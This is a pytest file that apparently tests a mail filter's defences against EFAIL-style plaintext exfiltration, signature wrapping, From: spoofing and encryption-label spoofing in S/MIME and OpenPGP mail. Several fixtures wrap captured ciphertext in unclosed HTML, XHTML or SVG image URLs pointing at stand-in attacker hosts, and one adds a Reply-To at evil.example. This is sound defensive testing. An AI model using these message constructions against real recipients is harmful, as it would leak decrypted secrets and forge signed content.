"""Issue 13, items 3 and 5: where decrypted text may land, and what a signature is reported for.

Every message is built as an attacker builds it (tests/attack_messages.py): real ciphertexts and
signatures from openssl and gpg with the corpus keys, wrapped, nested, relabelled and forged at the
MIME level. Each goes through the core and through ``ciphermilter decrypt``; the end-to-end twins
behind a real Postfix are in tests/e2e/test_efail_chain.py.
"""

from __future__ import annotations

import email.header
import email.policy
import re
import subprocess

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from support.attack_messages import (ATTACKER_TEXT, ATTACKS, PGP_SIGNER, SECRET, SECRET_ENTITY, SIGNED_ENTITY, SMIME_ERIN,
                             SMIME_SIGNER, Tools, message, multipart)
from ciphermilter import mime
from ciphermilter.core import pipeline as core
from ciphermilter.formats.openpgp import handler as openpgp_mime
from ciphermilter.formats.openpgp import findings as pgp_findings
from ciphermilter.formats.smime import handler as smime
from ciphermilter.cli.main import main
from ciphermilter.core.settings import Settings
from ciphermilter.core.plan import apply_plan
from ciphermilter.formats.sender import from_names_signer
from conftest import BOB, CORPUS, NO_HARVEST, info_of

EMBEDDED_ON = Settings(harvest_certificates=False, harvest_pgp_keys=False, decrypt_embedded=True)
PGP_WITHHELD = pgp_findings.WITHHELD


@pytest.fixture(scope="module")
def tools(tmp_path_factory) -> Tools:
    return Tools(tmp_path_factory.mktemp("attacker"))


def run(message_bytes: bytes, store, settings: Settings = NO_HARVEST):
    outcome = core.process(message_bytes, BOB, store, settings)
    assert outcome.error is None
    return outcome, apply_plan(message_bytes, outcome.plan)


def every_decoding(message_bytes: bytes) -> list[bytes]:
    """The message as it is and every entity's body decoded from its transfer encoding."""
    return [message_bytes] + [entity.decoded_body() for entity in mime.parse(message_bytes).walk()]


def leaks(message_bytes: bytes) -> bool:
    return any(SECRET in text for text in every_decoding(message_bytes))


def untouched(message_bytes: bytes, outcome, out: bytes) -> bool:
    """Only our headers were added: the body and every header of the message are as received."""
    return outcome.plan.body is None and not outcome.plan.changes and out.endswith(mime.parse(message_bytes).body)


# ---------------------------------------------------------------------------- item 3: where plaintext lands

# The captured ciphertext, in each form a client decrypts: (id, build(tools) -> entity, format).
ENCRYPTED_SHAPES = [
    ("smime", lambda t: t.smime_encrypted(SECRET_ENTITY), "smime"),
    ("pgp-mime", lambda t: t.pgp_encrypted(SECRET_ENTITY), "pgp"),
    ("pgp-attachment", lambda t: b'Content-Type: application/octet-stream; name="report.txt.asc"\r\n\r\n'
     + t.pgp_armored(SECRET), "pgp"),
    ("pgp-inline", lambda t: b"Content-Type: text/plain\r\n\r\n" + t.pgp_armored(SECRET), "pgp"),
]

# The sender-chosen content put beside it: (id, build(encrypted entity, tools) -> message).
CONTEXTS = [
    # "Re: What's up Johnny": the attacker's words and a Reply-To of his own; the victim quotes the plaintext.
    ("reply-text-plain", lambda e, t: message(multipart(b"mixed", [ATTACKER_TEXT, e]),
                                              extra=b"Reply-To: attacker@evil.example\r\n")),
    ("text-after", lambda e, t: message(multipart(b"mixed", [e, ATTACKER_TEXT]))),
    ("no-content-type", lambda e, t: message(multipart(b"mixed", [b"\r\nquote me back\r\n", e]))),
    ("html-with-comment", lambda e, t: message(multipart(b"mixed", [
        b'Content-Type: text/html (comment)\r\n\r\n<img src="http://attacker.example/', e,
        b'Content-Type: text/html\r\n\r\n">']))),
    ("xhtml", lambda e, t: message(multipart(b"mixed", [
        b'Content-Type: application/xhtml+xml\r\n\r\n<html xmlns="http://www.w3.org/1999/xhtml">'
        b'<img src="http://a.example/', e]))),
    ("svg", lambda e, t: message(multipart(b"mixed", [
        b'Content-Type: image/svg+xml\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg">'
        b'<image href="http://a.example/', e]))),
    ("alternative", lambda e, t: message(multipart(b"alternative", [ATTACKER_TEXT, e]))),
    ("related", lambda e, t: message(multipart(b"related", [e, b"Content-Type: image/png\r\n\r\nnot a png\r\n"]))),
    # Inside an outer signature the attacker made himself: the signature layer is whole, its content is not.
    ("inside-smime-signed", lambda e, t: message(t.smime_signed(multipart(b"mixed", [ATTACKER_TEXT, e]),
                                                                signer=SMIME_ERIN))),
    ("inside-pgp-signed", lambda e, t: message(t.pgp_signed(multipart(b"mixed", [ATTACKER_TEXT, e])))),
    ("nested-single-parts", lambda e, t: message(multipart(b"mixed", [multipart(b"mixed", [e], b"inner"),
                                                                      ATTACKER_TEXT]))),
    # Labelled signed, but clients show an unknown protocol, or a third part, as multipart/mixed (RFC 1847).
    ("signed-unknown-protocol", lambda e, t: message(multipart(b'signed; protocol="application/x-bogus"',
                                                               [e, ATTACKER_TEXT]))),
    ("smime-signed-three-parts", lambda e, t: message(multipart(b'signed; protocol="application/pkcs7-signature"',
                                                                [e, ATTACKER_TEXT, ATTACKER_TEXT]))),
]


def _withheld(info: dict, fmt: str) -> bool:
    if fmt == "smime":
        return info.get("SMIME-Mixed-Content") == "True" and smime.EMBEDDED in [
            value for name, value in info.items() if name.startswith("SMIME-Not-Decrypted-")]
    return info.get("PGP-Mixed-Content") == "True" and info.get("PGP-Decryption-Withheld") == PGP_WITHHELD


# S/MIME inside a PGP/MIME signature is the one pair left out of the matrix: even with decrypt_embedded on, the
# S/MIME handler, which runs first, changes nothing that the OpenPGP handler must verify after it (test below).
MATRIX = [pytest.param(shape, fmt, context, id=f"{shape_id}-{context_id}")
          for shape_id, shape, fmt in ENCRYPTED_SHAPES for context_id, context in CONTEXTS
          if (shape_id, context_id) != ("smime", "inside-pgp-signed")]


@pytest.mark.parametrize("shape, fmt, context", MATRIX)
def test_ciphertext_beside_sender_content_is_never_decrypted_by_default(tools, corpus_store, shape, fmt, context):
    attack = context(shape(tools), tools)
    outcome, out = run(attack, corpus_store)
    assert untouched(attack, outcome, out)
    assert not leaks(out)
    assert _withheld(info_of(outcome), fmt)
    # decrypt_embedded = true restores in-place decryption: the same message then gives the plaintext away
    allowed, decrypted = run(attack, corpus_store, EMBEDDED_ON)
    assert leaks(decrypted)
    assert not _withheld(info_of(allowed), fmt)


@pytest.mark.parametrize("text_before, text_after", [
    (b"Please reply and quote:\r\n\r\n", b""),
    (b"", b"\r\n-- \r\nsent by the attacker\r\n"),
    (b"> quoted\r\n", b"> quoted\r\n"),
], ids=["before", "after", "both"])
def test_inline_block_with_text_around_is_withheld(tools, corpus_store, text_before, text_after):
    attack = message(b"Content-Type: text/plain\r\n\r\n" + text_before + tools.pgp_armored(SECRET) + text_after)
    outcome, out = run(attack, corpus_store)
    assert untouched(attack, outcome, out) and not leaks(out)
    assert info_of(outcome) == {
        "PGP-Encoding": "PGP/INLINE", "PGP-Encrypted": "True", "PGP-Encryption-Algorithm": "AES-256",
        "PGP-Mixed-Content": "True", "PGP-Decryption-Withheld": PGP_WITHHELD}
    assert leaks(run(attack, corpus_store, EMBEDDED_ON)[1])


def test_signed_only_block_beside_text_is_mixed_but_hides_nothing(tools, corpus_store):
    """A signed, not encrypted, block with text around it stays as received: no claim that ciphertext was withheld."""
    attack = message(b"Content-Type: text/plain\r\n\r\nForwarded:\r\n" + tools.pgp_signed_only(b"I approve.\n"),
                     PGP_SIGNER)
    outcome, out = run(attack, corpus_store)
    info = info_of(outcome)
    assert untouched(attack, outcome, out)
    assert (info["PGP-Signature-Valid"], info["PGP-Mixed-Content"]) == ("True", "True")
    assert "PGP-Decryption-Withheld" not in info and "PGP-Encrypted" not in info


def test_two_blocks_in_one_part_are_not_whole(tools, corpus_store):
    """The attacker's own block to bob beside the captured one: decrypted together they read as one text."""
    attack = message(b"Content-Type: text/plain\r\n\r\n" + tools.pgp_armored(b"Quote this back to me:\r\n")
                     + tools.pgp_armored(SECRET))
    outcome, out = run(attack, corpus_store)
    assert untouched(attack, outcome, out) and not leaks(out)
    assert info_of(outcome)["PGP-Decryption-Withheld"] == PGP_WITHHELD


# Whole content stays decrypted in place: (id, build(tools) -> message).
WHOLE = [
    ("smime-root", lambda t: message(t.smime_encrypted(SECRET_ENTITY))),
    ("pgp-mime-root", lambda t: message(t.pgp_encrypted(SECRET_ENTITY))),
    ("inline-blank-lines-around", lambda t: message(b"Content-Type: text/plain\r\n\r\n\r\n  \r\n"
                                                    + t.pgp_armored(SECRET) + b"\r\n\t\r\n")),
    ("lone-part-of-lone-part", lambda t: message(multipart(b"mixed", [multipart(b"alternative", [
        t.smime_encrypted(SECRET_ENTITY)], b"inner")]))),
    ("pgp-in-smime-signed", lambda t: message(t.smime_signed(t.pgp_encrypted(SECRET_ENTITY)),
                                              sender=SMIME_SIGNER)),
]


@pytest.mark.parametrize("build", [w[1] for w in WHOLE], ids=[w[0] for w in WHOLE])
def test_whole_content_is_decrypted_in_place(tools, corpus_store, build):
    whole = build(tools)
    outcome, out = run(whole, corpus_store)
    info = info_of(outcome)
    assert leaks(out)
    assert "SMIME-Mixed-Content" not in info and "PGP-Mixed-Content" not in info
    assert "PGP-Decryption-Withheld" not in info
    assert not any(name.startswith("SMIME-Not-Decrypted") for name in info)


def test_smime_inside_a_pgp_signature_is_reported_and_left_as_received(tools, corpus_store):
    whole = tools.smime_encrypted(SECRET_ENTITY)
    beside = multipart(b"mixed", [ATTACKER_TEXT, tools.smime_encrypted(SECRET_ENTITY)])
    cases = [(whole, NO_HARVEST, smime.UNDER_PGP_SIGNATURE, {}),
             (whole, EMBEDDED_ON, smime.UNDER_PGP_SIGNATURE, {}),
             (beside, NO_HARVEST, smime.EMBEDDED, {"SMIME-Mixed-Content": "True"}),
             (beside, EMBEDDED_ON, smime.UNDER_PGP_SIGNATURE, {"SMIME-Mixed-Content": "True"})]
    for content, settings, reason, mixed in cases:
        attack = message(tools.pgp_signed(content))
        outcome, out = run(attack, corpus_store, settings)
        assert untouched(attack, outcome, out) and not leaks(out)
        smime_info = {name: value for name, value in info_of(outcome).items() if name.startswith("SMIME")}
        assert smime_info == {"SMIME-Encrypted": "True", "SMIME-Not-Decrypted-0": reason, **mixed}
        assert info_of(outcome)["PGP-Signature-Valid"] == "True"  # verified over the bytes as received


def test_reply_attack_exact_headers_smime(tools, corpus_store):
    attack = CONTEXTS[0][1](tools.smime_encrypted(SECRET_ENTITY), tools)
    outcome, out = run(attack, corpus_store)
    assert untouched(attack, outcome, out)
    assert info_of(outcome) == {"SMIME-Encrypted": "True", "SMIME-Not-Decrypted-0": smime.EMBEDDED,
                                "SMIME-Mixed-Content": "True"}


def test_reply_attack_exact_headers_pgp_mime(tools, corpus_store):
    attack = CONTEXTS[0][1](tools.pgp_encrypted(SECRET_ENTITY), tools)
    outcome, out = run(attack, corpus_store)
    assert untouched(attack, outcome, out)
    assert info_of(outcome) == {
        "PGP-Encoding": "PGP/MIME", "PGP-Encrypted": "True", "PGP-Encryption-Algorithm": "AES-256",
        "PGP-Mixed-Content": "True", "PGP-Decryption-Withheld": PGP_WITHHELD}


# ---------------------------------------------------------------------------- item 5: what a signature covers

# Where an attacker puts a part the victim once signed: (id, build(signed entity, From:) -> message).
SIGNED_CONTEXTS = [
    ("text-prepended", lambda s, sender: message(multipart(b"mixed", [ATTACKER_TEXT, s]), sender)),
    ("text-appended", lambda s, sender: message(multipart(b"mixed", [s, ATTACKER_TEXT]), sender)),
    ("forwarded-as-attachment", lambda s, sender: message(multipart(b"mixed", [
        ATTACKER_TEXT, b"Content-Disposition: attachment\r\n" + s]), sender)),
    ("alternative", lambda s, sender: message(multipart(b"alternative", [ATTACKER_TEXT, s]), sender)),
]
# The signed entity in each form: (id, build(tools) -> entity, the signer's address, the format's flag).
SIGNED_SHAPES = [
    ("smime-detached", lambda t: t.smime_signed(SIGNED_ENTITY), SMIME_SIGNER, "SMIME-Mixed-Content"),
    ("smime-opaque", lambda t: t.smime_opaque(SIGNED_ENTITY), SMIME_SIGNER, "SMIME-Mixed-Content"),
    ("pgp-mime", lambda t: t.pgp_signed(SIGNED_ENTITY), PGP_SIGNER, "PGP-Mixed-Content"),
    ("pgp-clearsigned", lambda t: b"Content-Type: text/plain\r\n\r\n" + t.pgp_clearsigned(b"I approve.\n"),
     PGP_SIGNER, "PGP-Mixed-Content"),
]


@pytest.mark.parametrize("context", [c[1] for c in SIGNED_CONTEXTS], ids=[c[0] for c in SIGNED_CONTEXTS])
@pytest.mark.parametrize("shape, signer, flag", [s[1:] for s in SIGNED_SHAPES], ids=[s[0] for s in SIGNED_SHAPES])
def test_signature_beside_unsigned_content_is_reported_with_the_mixed_content_flag(
        tools, corpus_store, shape, signer, flag, context):
    signed = shape(tools)
    whole, _ = run(message(signed, signer), corpus_store)
    attack = context(signed, signer)
    outcome, out = run(attack, corpus_store)
    verdict = info_of(whole)
    assert verdict.get("Signer-Verified-0-0", verdict.get("PGP-Signature-Valid")) == "True"
    assert "Signer-Mismatch" not in verdict and "PGP-Signer-Mismatch" not in verdict
    # The same verdict (same signer, same validity, no mismatch: From: is the signer's), and the flag.
    assert info_of(outcome) == {**verdict, flag: "True"}
    assert untouched(attack, outcome, out)  # left in place: no conversion, no unwrapping


@pytest.mark.parametrize("text_before, text_after", [(b"Forwarded:\r\n", b""), (b"", b"\r\nunsigned footer\r\n")],
                         ids=["before", "after"])
def test_clearsigned_block_with_text_around_is_mixed_content(tools, corpus_store, text_before, text_after):
    block = tools.pgp_clearsigned(b"I approve.\n")
    alone, _ = run(message(b"Content-Type: text/plain\r\n\r\n" + block, PGP_SIGNER), corpus_store)
    attack = message(b"Content-Type: text/plain\r\n\r\n" + text_before + block + text_after, PGP_SIGNER)
    outcome, out = run(attack, corpus_store)
    assert info_of(alone)["PGP-Signature-Valid"] == "True" and "PGP-Mixed-Content" not in info_of(alone)
    assert info_of(outcome) == {**info_of(alone), "PGP-Mixed-Content": "True"}
    assert untouched(attack, outcome, out)


@pytest.mark.parametrize("fmt", ["smime", "pgp"])
def test_ciphertext_inside_a_signed_part_beside_text_stays_encrypted(tools, corpus_store, fmt):
    """A signed part that is not whole makes nothing below it whole: its encrypted content stays as received."""
    if fmt == "smime":
        signed, flag = tools.smime_signed(tools.smime_encrypted(SECRET_ENTITY)), "SMIME-Mixed-Content"
    else:
        signed, flag = tools.pgp_signed(tools.pgp_encrypted(SECRET_ENTITY)), "PGP-Mixed-Content"
    attack = message(multipart(b"mixed", [ATTACKER_TEXT, signed]))
    outcome, out = run(attack, corpus_store)
    info = info_of(outcome)
    assert untouched(attack, outcome, out) and not leaks(out)
    assert info[flag] == "True"
    if fmt == "smime":
        assert (info["Signer-Verified-0-0"], info["SMIME-Not-Decrypted-1"]) == ("True", smime.EMBEDDED)
    else:
        assert (info["PGP-Signature-Valid"], info["PGP-Decryption-Withheld"]) == ("True", PGP_WITHHELD)
    assert leaks(run(attack, corpus_store, EMBEDDED_ON)[1])


# ---------------------------------------------------------------------------- From: and the signer

# (id, From: fields with SIGNER standing for the signer's address, mismatch expected)
FROM_CASES = [
    ("addr-spec", ["SIGNER"], False),
    ("name-addr", ["Signer Name <SIGNER>"], False),
    ("quoted-name-is-the-address", ['"SIGNER" <SIGNER>'], False),
    ("upper-case", ["Signer <SIGNER_UPPER>"], False),
    ("obsolete-phrase", ["J. Q. Signer <SIGNER>"], False),
    ("other-address-in-name", ["eve@evil.example <SIGNER>"], True),
    ("reverse-form", ["SIGNER <eve@evil.example>"], True),
    ("quoted-name-other-address", ['"boss@corp-pub.example" <SIGNER>'], True),
    ("encoded-word-name-other-address", ["=?utf-8?q?boss=40corp-pub=2Eexample?= <SIGNER>"], True),
    ("comment-other-address", ["SIGNER (boss@corp-pub.example)"], True),
    ("two-from-fields", ["SIGNER", "SIGNER"], True),
    ("two-mailboxes-signer-first", ["SIGNER, eve@evil.example"], True),
    ("group", ["Team: SIGNER;"], True),
    ("unparseable", ["Signer <SIGNER"], True),
    ("unquoted-address-as-name", ["SIGNER <SIGNER>"], True),  # '@' in an unquoted phrase does not parse
    ("someone-else", ["eve@evil.example"], True),
    ("no-from", [], True),
]


def _from_fields(fields: list[str], signer: str) -> list[str]:
    return [f.replace("SIGNER_UPPER", signer.upper()).replace("SIGNER", signer) for f in fields]


@pytest.mark.parametrize("fields, mismatch", [c[1:] for c in FROM_CASES], ids=[c[0] for c in FROM_CASES])
def test_from_rule(fields, mismatch):
    assert from_names_signer(_from_fields(fields, "gus@corp.example"), {"gus@corp.example"}) == (not mismatch)


SIGNER_ADDRESS = "gus@corp.example"
_ANY_ADDRESS = re.compile(r"[^\s<>()\[\]\"',;:@\\]+@[^\s<>()\[\]\"',;:@\\]+")


@settings(max_examples=2000)
@given(st.lists(st.sampled_from(["gus@corp.example", "GUS@Corp.Example", "eve@evil.example", "eve", " ", "<", ">",
                                 '"', "\\", ",", ";", ":", "(", ")", "@", ".", "=?utf-8?q?", "?=", "=40", "Gus"]),
                max_size=12).map("".join))
def test_no_mismatch_only_for_one_mailbox_of_the_signer_and_no_other_address(value):
    """Whatever the sender writes: a field the rule accepts parses as exactly one mailbox, the signer's, and
    shows no other address, not even inside an encoded word."""
    if not from_names_signer([value], {SIGNER_ADDRESS}):
        return
    (mailbox,) = email.policy.default.header_factory("From", value).addresses
    assert mailbox.addr_spec.lower() == SIGNER_ADDRESS
    decoded = str(email.header.make_header(email.header.decode_header(value)))
    assert {a.lower().rstrip(".") for a in _ANY_ADDRESS.findall(value + " " + decoded)} == {SIGNER_ADDRESS}


@pytest.mark.parametrize("fields, mismatch", [c[1:] for c in FROM_CASES], ids=[c[0] for c in FROM_CASES])
@pytest.mark.parametrize("fmt", ["smime", "pgp"])
def test_signer_mismatch_uses_the_from_rule_for_both_formats(tools, corpus_store, fmt, fields, mismatch):
    signer = SMIME_SIGNER if fmt == "smime" else PGP_SIGNER
    entity = tools.smime_signed(SIGNED_ENTITY) if fmt == "smime" else tools.pgp_signed(SIGNED_ENTITY)
    head = b"".join(b"From: " + f.encode() + b"\r\n" for f in _from_fields(fields, signer))
    signed = head + b"To: bob@corp-pub.example\r\nMIME-Version: 1.0\r\n" + entity
    info = info_of(run(signed, corpus_store)[0])
    assert info.get("Signer-Verified-0-0", info.get("PGP-Signature-Valid")) == "True"
    flag = "Signer-Mismatch" if fmt == "smime" else "PGP-Signer-Mismatch"
    assert (flag in info) == mismatch


def test_pgp_mismatch_when_no_signature_is_valid(tools, corpus_store):
    """From: names the key's address, but the signature does not verify: no valid signer is named."""
    signed = tools.pgp_signed(SIGNED_ENTITY).replace(b"10 EUR", b"9999 EUR")
    info = info_of(run(message(signed, PGP_SIGNER), corpus_store)[0])
    assert info["PGP-Signature-Valid"] == "False" and info["PGP-Signature-Failure"] == "bad signature"
    assert info["PGP-Signer-Mismatch"] == "True"


# ---------------------------------------------------------------------------- encryption spoofing


def test_signed_only_openpgp_in_multipart_encrypted_is_not_reported_encrypted(tools, corpus_store):
    armored = tools.pgp_signed_only(b"I approve the payment of 10 EUR.\n")
    spoof = message(tools.pgp_mime_encrypted_around(armored), PGP_SIGNER)
    info = info_of(run(spoof, corpus_store)[0])
    assert "PGP-Encrypted" not in info and "PGP-Encryption-Algorithm" not in info
    assert (info["PGP-Signed"], info["PGP-Signature-Valid"], info["PGP-Signer-Email"]) == ("True", "True", PGP_SIGNER)
    assert "PGP-Signer-Mismatch" not in info


def test_opaque_signed_data_labelled_enveloped_is_not_reported_encrypted(tools, corpus_store):
    opaque = tools.smime_opaque(SIGNED_ENTITY).replace(b"smime-type=signed-data", b"smime-type=enveloped-data")
    info = info_of(run(message(opaque, SMIME_SIGNER), corpus_store)[0])
    assert "SMIME-Encrypted" not in info
    assert (info["SMIME-Signed"], info["Signer-Verified-0-0"]) == ("True", "True")


def test_multipart_encrypted_without_openpgp_data_claims_no_encryption(corpus_store):
    spoof = message(Tools.pgp_mime_encrypted_around(b"nothing encrypted here\r\n"))
    outcome, out = run(spoof, corpus_store)
    info = info_of(outcome)
    assert "PGP-Encrypted" not in info and info["PGP-Decryption-Failed"]
    assert untouched(spoof, outcome, out)


# ---------------------------------------------------------------------------- integrity


def test_tampered_openpgp_ciphertext_says_integrity_check_failed(tools, corpus_store):
    attack = tools.pgp_tampered(SECRET_ENTITY)
    outcome, out = run(attack, corpus_store)
    assert info_of(outcome) == {"PGP-Encoding": "PGP/MIME", "PGP-Encrypted": "True",
                                "PGP-Encryption-Algorithm": "AES-256", "PGP-Decryption-Failed": "integrity check failed"}
    assert untouched(attack, outcome, out) and not leaks(out)
    assert not leaks(run(attack, corpus_store, EMBEDDED_ON)[1])


def test_tampered_gcm_tag_fails_like_a_wrong_key(tools, corpus_store):
    """S/MIME AES-GCM: a changed tag and a wrong content key both fail the tag check, and a wrong key is what
    bad RSA padding gives (implicit rejection). Telling them apart would be a padding oracle
    (test_security.test_bad_padding_and_a_wrong_key_look_the_same), so both read "decryption failed"."""
    entity = tools.smime_encrypted(SECRET_ENTITY, cipher="-aes-256-gcm")
    der = mime.parse(entity).decoded_body()
    tampered = Tools.smime_entity(der[:-1] + bytes([der[-1] ^ 0x01]), "enveloped-data")
    attack = message(tampered)
    outcome, out = run(attack, corpus_store)
    info = info_of(outcome)
    assert info["SMIME-Decryption-Failed-0"] == "decryption failed"
    assert untouched(attack, outcome, out) and not leaks(out)


# ---------------------------------------------------------------------------- Thunderbird/NSS bare LF


def test_lf_content_of_sign_then_encrypt_verifies_over_the_signed_bytes(tools, corpus_store, tmp_path):
    nss = tools.nss_signed_then_encrypted(b"Hello Bob,\r\nsigned, then encrypted with LF.\r\n")
    outcome, out = run(nss, corpus_store)
    info = info_of(outcome)
    assert (info["Signer-Verified-0-1"], info["Signer-Trusted-0-1"]) == ("True", "True")
    assert "SMIME-Illegal-Chars-Found" not in info and "Signer-Mismatch" not in info
    assert not smime.has_bare_line_end(out)  # delivered in SMTP's CRLF form
    (tmp_path / "out.eml").write_bytes(out)
    # The delivered bytes are CRLF throughout (above), so OpenSSL's canonical form of them is themselves.
    verified = subprocess.run(["openssl", "cms", "-verify", "-in", "out.eml", "-CAfile",
                               str(CORPUS / "keys" / "trust" / "pub-root-ca.cert.pem"), "-purpose", "any"],
                              cwd=tmp_path, capture_output=True, check=False)
    assert verified.returncode == 0, verified.stderr


def test_lf_content_with_a_stray_cr_keeps_the_illegal_chars_flag(tools, corpus_store):
    nss = tools.nss_signed_then_encrypted(b"Hello Bob,\r\na stray\rCR.\r\n")
    info = info_of(run(nss, corpus_store)[0])
    assert info["SMIME-Illegal-Chars-Found"] == "True"


# ---------------------------------------------------------------------------- offline, as the daemon


@pytest.mark.parametrize("build, expected, body_kept", [a[1:] for a in ATTACKS], ids=[a[0] for a in ATTACKS])
def test_ciphermilter_decrypt_gives_what_the_core_plans(tools, corpus_store, build, expected, body_kept):
    attack = build(tools)
    result = CliRunner().invoke(main, ["--store", str(corpus_store.path), "decrypt", "--rcpt", "bob@corp-pub.example",
                                       "-"], input=attack)
    assert result.exit_code == 0, result.output
    outcome, planned = run(attack, corpus_store, Settings())
    assert result.stdout_bytes == planned
    assert expected.items() <= info_of(outcome).items()
    assert (outcome.plan.body is None) == body_kept
    assert not leaks(result.stdout_bytes)
